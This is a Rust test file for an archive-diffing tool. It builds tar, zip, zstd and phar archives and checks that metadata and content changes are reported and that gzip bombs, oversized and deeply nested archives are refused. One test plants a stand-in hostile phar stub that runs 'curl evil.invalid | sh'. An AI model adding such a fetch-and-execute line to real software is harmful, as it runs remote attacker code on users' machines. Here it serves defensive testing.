//! Comparisons of real archives built here: GNU tar (plain, gzip, xz), zstd (ruzstd's
//! encoder over GNU tar's output), zip (the zip crate), phar (Debian's php-cli with its Phar
//! extension), archives inside archives, and hostile inputs refused by the caps.
//!
//! GNU tar, xz and php come from scripts/setup (DEBIAN_PACKAGES); a machine without them fails
//! these tests rather than skipping them.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use airlock_diff::{
    Change, ContentDiff, DiffError, Limits, MemberDiff, Options, Report, Verdict, diff_bytes,
    diff_paths,
};

fn run(cmd: &mut Command) {
    let out = cmd
        .output()
        .unwrap_or_else(|e| panic!("{cmd:?}: {e} (run ./scripts/setup)"));
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A small source tree: text files, a binary file, a subdirectory.
fn tree(root: &Path) -> PathBuf {
    let src = root.join("src");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    std::fs::write(src.join("a.txt"), "hello\nworld\n").unwrap();
    std::fs::write(src.join("sub/b.txt"), "one\ntwo\nthree\n").unwrap();
    std::fs::write(src.join("bin.dat"), [0u8, 1, 2, 3, 255, 254, 0, 9]).unwrap();
    src
}

/// GNU tar of `root/src`, every member's mtime set to `mtime`; `flag` picks the compression.
fn gnu_tar(root: &Path, out: &str, flag: &str, mtime: u64) -> PathBuf {
    let path = root.join(out);
    run(Command::new("tar")
        .current_dir(root)
        .arg(format!("--mtime=@{mtime}"))
        .args(["--sort=name", "--owner=0", "--group=0", "--numeric-owner"])
        .arg(flag)
        .arg(&path)
        .arg("src"));
    path
}

fn member<'a>(r: &'a Report, name: &str) -> &'a MemberDiff {
    fn find<'a>(node: &'a airlock_diff::Node, prefix: &str, name: &str) -> Option<&'a MemberDiff> {
        for m in &node.members {
            let path = format!("{prefix}{}", m.name);
            if path == name {
                return Some(m);
            }
            if let Some(ContentDiff::Archive { node }) = &m.content
                && let Some(found) = find(node, &format!("{path}!/"), name)
            {
                return Some(found);
            }
        }
        None
    }
    find(r.root.as_ref().expect("files differ"), "", name)
        .unwrap_or_else(|| panic!("no difference reported for {name}: {r:#?}"))
}

fn text_diff(m: &MemberDiff) -> &str {
    match &m.content {
        Some(ContentDiff::Text { diff, .. }) => diff,
        other => panic!("{}: no text diff: {other:?}", m.name),
    }
}

#[test]
fn two_gnu_tar_builds_with_other_mtimes_differ_in_metadata_only() {
    let tmp = tempfile::tempdir().unwrap();
    tree(tmp.path());
    let a = gnu_tar(tmp.path(), "one.tar.gz", "-czf", 1_700_000_000);
    let b = gnu_tar(tmp.path(), "two.tar.gz", "-czf", 1_700_000_100);
    let r = diff_paths(&a, &b, &Options::default()).unwrap();
    assert_eq!(r.verdict, Verdict::MetadataOnly, "{}", r.render(100));
    // src/, src/sub/, and the three files.
    assert_eq!(r.summary.metadata_only, 5, "{:?}", r.summary);
    assert_eq!(
        (r.summary.changed, r.summary.added, r.summary.removed),
        (0, 0, 0)
    );
    let m = member(&r, "src/a.txt");
    assert_eq!(m.change, Change::Metadata);
    assert_eq!(m.metadata.len(), 1, "{:?}", m.metadata);
    assert_eq!(m.metadata[0].field, "mtime");
    assert_eq!(m.metadata[0].a.as_deref(), Some("2023-11-14T22:13:20Z"));
    assert_eq!(m.metadata[0].b.as_deref(), Some("2023-11-14T22:15:00Z"));
    let text = r.render(100);
    assert!(text.contains("METADATA ONLY"), "{text}");
    assert!(!text.contains("Content differences"), "{text}");
}

#[test]
fn a_changed_file_in_a_gnu_tar_shows_its_text_diff() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tree(tmp.path());
    let a = gnu_tar(tmp.path(), "one.tar", "-cf", 1_700_000_000);
    std::fs::write(src.join("a.txt"), "hello\nthere\n").unwrap();
    std::fs::write(src.join("new.txt"), "new\n").unwrap();
    std::fs::remove_file(src.join("bin.dat")).unwrap();
    let b = gnu_tar(tmp.path(), "two.tar", "-cf", 1_700_000_000);
    let r = diff_paths(&a, &b, &Options::default()).unwrap();
    assert_eq!(r.verdict, Verdict::Content);
    assert_eq!(
        (r.summary.changed, r.summary.added, r.summary.removed),
        (1, 1, 1),
        "{}",
        r.render(100)
    );
    let diff = text_diff(member(&r, "src/a.txt"));
    assert!(diff.contains("--- a/src/a.txt"), "{diff}");
    assert!(
        diff.contains("\n-world\n") && diff.contains("\n+there\n"),
        "{diff}"
    );
    assert_eq!(member(&r, "src/new.txt").change, Change::Added);
    assert_eq!(member(&r, "src/bin.dat").change, Change::Removed);
    let text = r.render(100);
    assert!(text.starts_with("--- "), "{text}");
    assert!(
        text.contains("CONTENT DIFFERS: 1 changed, 1 added, 1 removed"),
        "{text}"
    );
    assert!(text.contains("      +there"), "{text}");
}

#[test]
fn the_same_tar_compressed_with_xz_and_with_zstd_differs_in_format_only() {
    let tmp = tempfile::tempdir().unwrap();
    tree(tmp.path());
    let xz = gnu_tar(tmp.path(), "t.tar.xz", "-cJf", 1_700_000_000);
    let plain = gnu_tar(tmp.path(), "t.tar", "-cf", 1_700_000_000);
    let tar = std::fs::read(&plain).unwrap();
    let zst =
        ruzstd::encoding::compress_to_vec(&tar[..], ruzstd::encoding::CompressionLevel::Fastest);
    let r = diff_bytes(
        &xz,
        &std::fs::read(&xz).unwrap(),
        Path::new("t.tar.zst"),
        &zst,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(r.verdict, Verdict::MetadataOnly, "{}", r.render(100));
    let root = r.root.as_ref().unwrap();
    assert_eq!(root.format.a.as_deref(), Some("tar.xz"));
    assert_eq!(root.format.b.as_deref(), Some("tar.zst"));
    assert!(root.members.is_empty(), "{root:?}");
    assert_eq!(root.metadata[0].field, "format");
    assert!(
        r.headline()
            .starts_with("METADATA ONLY: every member is the same"),
        "{}",
        r.headline()
    );
}

fn zip_of(files: &[(&str, &[u8])], second: u8) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let time = zip::DateTime::from_date_and_time(2024, 5, 1, 12, 0, second).unwrap();
    let opts = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(time)
        .unix_permissions(0o644);
    for (name, data) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[test]
fn zip_members_added_removed_changed_and_retimed() {
    let a = zip_of(
        &[("x.txt", b"1\n2\n3\n"), ("same.txt", b"s\n"), ("old", b"o")],
        0,
    );
    let b = zip_of(
        &[
            ("x.txt", b"1\n2\nthree\n"),
            ("same.txt", b"s\n"),
            ("new", b"n"),
        ],
        10,
    );
    let r = diff_bytes(
        Path::new("a.zip"),
        &a,
        Path::new("b.zip"),
        &b,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(r.verdict, Verdict::Content);
    assert!(text_diff(member(&r, "x.txt")).contains("+three"));
    let same = member(&r, "same.txt");
    assert_eq!(same.change, Change::Metadata);
    assert_eq!(same.metadata[0].field, "mtime");
    assert_eq!(member(&r, "old").change, Change::Removed);
    assert_eq!(member(&r, "new").change, Change::Added);
    assert_eq!(r.summary.metadata_only, 1);

    // The same members in another order: reported as metadata.
    let c = zip_of(
        &[("same.txt", b"s\n"), ("x.txt", b"1\n2\n3\n"), ("old", b"o")],
        0,
    );
    let r = diff_bytes(
        Path::new("a.zip"),
        &a,
        Path::new("c.zip"),
        &c,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(r.verdict, Verdict::MetadataOnly, "{}", r.render(100));
    assert_eq!(r.root.as_ref().unwrap().metadata[0].field, "member order");
}

/// A phar built by PHP's own Phar extension from `files`, with `stub`; `gz` compresses its
/// entries.
fn php_phar(dir: &Path, name: &str, stub: &str, gz: bool, extra: &str) -> PathBuf {
    let out = dir.join(name);
    let script = dir.join(format!("{name}.build.php"));
    std::fs::write(
        &script,
        format!(
            r#"<?php
$p = new Phar({out:?});
$p->addFromString('index.php', "<?php\necho 'hello';\n");
$p->addFromString('lib/util.php', "<?php\nfunction f() {{ return 1; }}\n");
$p->addFromString('data.bin', "\x00\x01\x02");
$p->setMetadata(['built-by' => 'airlock tests']);
$p['lib/util.php']->setMetadata(['owner' => 'lib']);
$p->setStub({stub:?});
{compress}
{extra}
"#,
            out = out.to_str().unwrap(),
            compress = if gz {
                "$p->compressFiles(Phar::GZ);"
            } else {
                ""
            },
        ),
    )
    .unwrap();
    run(Command::new("php")
        .args(["-d", "phar.readonly=0"])
        .arg(&script));
    out
}

const STUB: &str =
    "<?php Phar::mapPhar('app.phar'); require 'phar://app.phar/index.php'; __HALT_COMPILER(); ?>";

#[test]
fn phar_rebuilt_with_compressed_entries_and_another_signature_differs_in_metadata_only() {
    let tmp = tempfile::tempdir().unwrap();
    let a = php_phar(tmp.path(), "a.phar", STUB, false, "");
    // Entries compressed by PHP (raw deflate) and a SHA-512 signature instead of SHA-256:
    // the same contents.
    let b = php_phar(
        tmp.path(),
        "b.phar",
        STUB,
        true,
        "$p->setSignatureAlgorithm(Phar::SHA512);",
    );
    let r = diff_paths(&a, &b, &Options::default()).unwrap();
    assert_eq!(r.verdict, Verdict::MetadataOnly, "{}", r.render(100));
    let root = r.root.as_ref().unwrap();
    assert_eq!(root.format.a.as_deref(), Some("phar"));
    assert!(
        root.notes.is_empty(),
        "both signatures verify: {:?}",
        root.notes
    );
    let sig = root
        .metadata
        .iter()
        .find(|f| f.field == "phar signature")
        .unwrap_or_else(|| panic!("{root:?}"));
    assert!(sig.a.as_deref().unwrap().starts_with("SHA-256 "), "{sig:?}");
    assert!(sig.b.as_deref().unwrap().starts_with("SHA-512 "), "{sig:?}");
    let index = member(&r, "index.php");
    assert!(
        index
            .metadata
            .iter()
            .any(|f| f.field == "compression" && f.b.as_deref() == Some("zlib")),
        "{}",
        r.render(100)
    );
}

#[test]
fn phar_with_a_modified_stub_shows_the_stub_diff() {
    let tmp = tempfile::tempdir().unwrap();
    let a = php_phar(tmp.path(), "a.phar", STUB, false, "");
    let evil = "<?php system('curl evil.invalid | sh'); Phar::mapPhar('app.phar'); require 'phar://app.phar/index.php'; __HALT_COMPILER(); ?>";
    let b = php_phar(tmp.path(), "b.phar", evil, false, "");
    let r = diff_paths(&a, &b, &Options::default()).unwrap();
    assert_eq!(r.verdict, Verdict::Content);
    let stub = member(&r, ".phar/stub.php");
    assert_eq!(stub.change, Change::Content);
    let diff = text_diff(stub);
    assert!(
        diff.contains("+<?php system('curl evil.invalid | sh');"),
        "{diff}"
    );
    assert_eq!(r.summary.changed, 1, "only the stub: {}", r.render(100));
    assert!(r.render(100).contains("changed  .phar/stub.php (text)"));

    // A change to an entry's PHP metadata is content too (code reads it).
    let c_script = tmp.path().join("meta.php");
    let c = tmp.path().join("c.phar");
    std::fs::copy(&a, &c).unwrap();
    std::fs::write(
        &c_script,
        format!(
            "<?php $p = new Phar({:?}); $p['lib/util.php']->setMetadata(['owner' => 'mallory']);",
            c.to_str().unwrap()
        ),
    )
    .unwrap();
    run(Command::new("php")
        .args(["-d", "phar.readonly=0"])
        .arg(&c_script));
    let r = diff_paths(&a, &c, &Options::default()).unwrap();
    let util = member(&r, "lib/util.php");
    assert_eq!(util.change, Change::Content, "{}", r.render(100));
    assert!(util.fields[0].b.as_deref().unwrap().contains("mallory"));
}

fn tar_of(files: &[(&str, &[u8])], mtime: u64) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(mtime);
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn archives_inside_archives_are_opened() {
    let inner_a = zip_of(&[("conf.txt", b"port = 80\n"), ("keep.txt", b"k\n")], 0);
    let inner_b = zip_of(&[("conf.txt", b"port = 8080\n"), ("keep.txt", b"k\n")], 0);
    let a = gzip(&tar_of(
        &[("lib/inner.jar", &inner_a), ("README", b"r\n")],
        1,
    ));
    let b = gzip(&tar_of(
        &[("lib/inner.jar", &inner_b), ("README", b"r\n")],
        1,
    ));
    let r = diff_bytes(
        Path::new("a.tgz"),
        &a,
        Path::new("b.tgz"),
        &b,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(r.verdict, Verdict::Content);
    let conf = member(&r, "lib/inner.jar!/conf.txt");
    assert!(text_diff(conf).contains("+port = 8080"), "{conf:?}");
    assert_eq!(r.summary.changed, 1);
    assert!(
        r.render(100)
            .contains("changed  lib/inner.jar!/conf.txt (text)")
    );

    // Only the inner archive's times differ: the outer member is a metadata-only change.
    let inner_c = zip_of(&[("conf.txt", b"port = 80\n"), ("keep.txt", b"k\n")], 20);
    let c = gzip(&tar_of(
        &[("lib/inner.jar", &inner_c), ("README", b"r\n")],
        1,
    ));
    let r = diff_bytes(
        Path::new("a.tgz"),
        &a,
        Path::new("c.tgz"),
        &c,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(r.verdict, Verdict::MetadataOnly, "{}", r.render(100));
    assert_eq!(member(&r, "lib/inner.jar").change, Change::Metadata);
    assert_eq!(r.summary.metadata_only, 2);
}

fn small_limits() -> Options {
    Options {
        limits: Limits {
            max_members: 10,
            max_total_bytes: 8 << 20,
            max_member_bytes: 4 << 20,
            max_depth: 8,
        },
        ..Options::default()
    }
}

#[test]
fn a_gzip_bomb_is_refused_by_the_member_size_cap() {
    // 64 MiB of zeros in about 64 KiB.
    let zeros = vec![0u8; 64 << 20];
    let bomb = gzip(&zeros);
    assert!(bomb.len() < 1 << 20);
    let other = gzip(b"small");
    let e = diff_bytes(
        Path::new("bomb.gz"),
        &bomb,
        Path::new("ok.gz"),
        &other,
        &small_limits(),
    )
    .unwrap_err();
    assert!(matches!(e, DiffError::MemberTooLarge { .. }), "{e}");
    assert!(e.is_limit());
    let msg = e.to_string();
    assert!(
        msg.contains("bomb.gz") && msg.contains("per-member size cap"),
        "{msg}"
    );
}

#[test]
fn many_members_under_the_member_cap_are_refused_by_the_total_cap() {
    // Nine deflated members of 1 MiB each: none above the 4 MiB member cap, 9 MiB in all.
    let mb = vec![7u8; 1 << 20];
    let names: Vec<String> = (0..9).map(|i| format!("f{i}")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &mb[..])).collect();
    let a = zip_of(&files, 0);
    let b = zip_of(&files, 2);
    assert!(a.len() < 1 << 20);
    let e = diff_bytes(
        Path::new("a.zip"),
        &a,
        Path::new("b.zip"),
        &b,
        &small_limits(),
    )
    .unwrap_err();
    assert!(matches!(e, DiffError::TotalTooLarge { .. }), "{e}");
    assert!(
        e.to_string()
            .contains("a.zip: more than 8388608 bytes expanded in all, reached at a.zip!/f8"),
        "{e}"
    );
}

#[test]
fn too_many_members_are_refused_by_the_member_count_cap() {
    let names: Vec<String> = (0..50).map(|i| format!("m{i}")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let a = tar_of(&files, 1);
    let b = tar_of(&files, 2);
    let e = diff_bytes(
        Path::new("a.tar"),
        &a,
        Path::new("b.tar"),
        &b,
        &small_limits(),
    )
    .unwrap_err();
    assert!(
        matches!(e, DiffError::TooManyMembers { limit: 10, .. }),
        "{e}"
    );
    assert!(
        e.to_string()
            .contains("a.tar: more than 10 members (member count cap)"),
        "{e}"
    );
}

#[test]
fn archives_nested_too_deep_are_refused_by_the_depth_cap() {
    let wrap = |mut d: Vec<u8>| {
        for _ in 0..12 {
            d = gzip(&d);
        }
        d
    };
    let a = wrap(b"a\n".to_vec());
    let b = wrap(b"b\n".to_vec());
    let e = diff_bytes(
        Path::new("a.gz"),
        &a,
        Path::new("b.gz"),
        &b,
        &small_limits(),
    )
    .unwrap_err();
    assert!(matches!(e, DiffError::TooDeep { limit: 8, .. }), "{e}");
    assert!(e.to_string().contains("nesting depth cap"), "{e}");
}

#[test]
fn truncated_and_damaged_archives_are_compared_as_bytes_without_panicking() {
    let tmp = tempfile::tempdir().unwrap();
    tree(tmp.path());
    let tgz = std::fs::read(gnu_tar(tmp.path(), "t.tar.gz", "-czf", 1)).unwrap();
    let phar = std::fs::read(php_phar(tmp.path(), "p.phar", STUB, true, "")).unwrap();
    for whole in [&tgz, &phar] {
        for cut in (0..whole.len()).step_by(7) {
            let part = &whole[..cut];
            let r = diff_bytes(
                Path::new("a"),
                whole,
                Path::new("b"),
                part,
                &Options::default(),
            );
            if let Ok(r) = r {
                assert_ne!(r.verdict, Verdict::Identical);
                let _ = r.render(10);
            }
        }
        for i in (0..whole.len()).step_by(5) {
            let mut d = whole.clone();
            d[i] ^= 0x55;
            let _ = diff_bytes(
                Path::new("a"),
                whole,
                Path::new("b"),
                &d,
                &Options::default(),
            );
        }
    }
    // A phar cut short is reported as read as bytes, with the reason.
    let r = diff_bytes(
        Path::new("a.phar"),
        &phar,
        Path::new("b.phar"),
        &phar[..phar.len() - 10],
        &Options::default(),
    )
    .unwrap();
    let notes = &r.root.as_ref().unwrap().notes;
    assert!(
        notes
            .iter()
            .any(|n| n.starts_with("B was compared as bytes: phar:")),
        "{notes:?}"
    );
}

/// The phars PHP wrote for the fuzz corpus (plain with SHA-256, zlib entries with SHA-512, MD5
/// with an alias, metadata and a stub without `?>`) parse, entries and signatures included.
#[test]
fn every_phar_php_wrote_for_the_fuzz_corpus_parses() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/phar");
    for (name, kind) in [
        ("seed-php-plain", "SHA-256"),
        ("seed-php-gz", "SHA-512"),
        ("seed-php-md5", "MD5"),
    ] {
        let data = std::fs::read(dir.join(name)).unwrap();
        let p = airlock_diff::phar::parse(&data).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(p.entries.len(), 2, "{name}");
        assert_eq!(p.alias, b"app.phar", "{name}");
        assert!(!p.metadata.is_empty(), "{name}");
        let sig = p.signature.unwrap();
        assert_eq!(sig.kind_name(), kind, "{name}");
        assert_ne!(sig.verifies, Some(false), "{name}");
    }
}
